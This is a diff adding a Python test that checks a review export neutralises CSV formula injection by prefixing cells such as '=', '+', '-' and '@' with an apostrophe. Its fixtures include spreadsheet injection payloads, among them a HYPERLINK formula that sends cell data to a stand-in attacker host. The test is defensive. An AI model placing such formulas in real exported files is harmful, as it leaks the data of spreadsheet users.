@@ -216,3 +216,41 @@ def test_an_interruption_after_the_answer_was_self_contained() -> None:
                                              units=units))
     assert (point["unit_id"], point["offset_in_unit_ms"]) == ("u2", 600)
     assert point["before_self_contained"] is False
+
+
+def test_what_a_caller_typed_is_never_a_formula_in_the_rubric(tmp_path: Path) -> None:
+    """OWASP CSV injection: a cell starting with ``= + - @``, tab or carriage return is written
+    with a leading ``'``; everything else, and every other column, as it was."""
+    from datetime import UTC, datetime
+
+    from vocero.app.review import ReviewData, write_review
+    from vocero.store.records import GenerationRecord, SessionRecord, TurnRecord
+    from vocero.store.units import UnitView
+
+    at = datetime(2026, 12, 1, tzinfo=UTC)
+    said = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1-1 hello",
+            "-2+3", "\t=1+1", "\r=1+1", "\uff1dcmd", "a = b is fine"]
+    session = SessionRecord(id=SID, tenant_id="acme", subject_ref="s", profile_id="demo",
+                            profile_version="1", state="CLOSED", effective={},
+                            resume_token_hash=None, created_at=at, closed_at=at)
+    turns = [TurnRecord(id=f"turn_{i}", session_id=SID, seq=i, source="text", text=text,
+                        created_at=at) for i, text in enumerate(said)]
+    generations = [GenerationRecord(id=f"gen_{i}", session_id=SID, turn_id=f"turn_{i}",
+                                    status="completed", generated_text="", heard_text="=2*3",
+                                    played_ms=0, sent_ms=0, created_at=at, completed_at=at)
+                   for i in range(len(said))]
+    units = [UnitView(
+        unit_id=f"u{i}", session_id=SID, seq=i + 1, generation_id=f"gen_{i}",
+        turn_id=f"turn_{i}", question_revision=0, index=0, kind="conversational",
+        text="@answer", claim_keys=[], evidence=[], disposition="admitted", reason_code="",
+        planned_at=at, decided_at=at, admitted_at=at, audio_offset_ms=0.0, audio_ms=0.0,
+        played_ms=0, synthesis={}, has_audio=False) for i in range(len(said))]
+    out = tmp_path / "review"
+    write_review(ReviewData(session=session, turns=turns, generations=generations,
+                            units=units), out)
+    with (out / "rubric.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["question"] for r in rows] == [f"'{t}" for t in said[:-1]] + ["a = b is fine"]
+    assert {r["heard_text"] for r in rows} == {"'=2*3"}
+    assert {r["answer_text"] for r in rows} == {"'@answer"}
+    assert [r["generation_id"] for r in rows] == [f"gen_{i}" for i in range(len(said))]
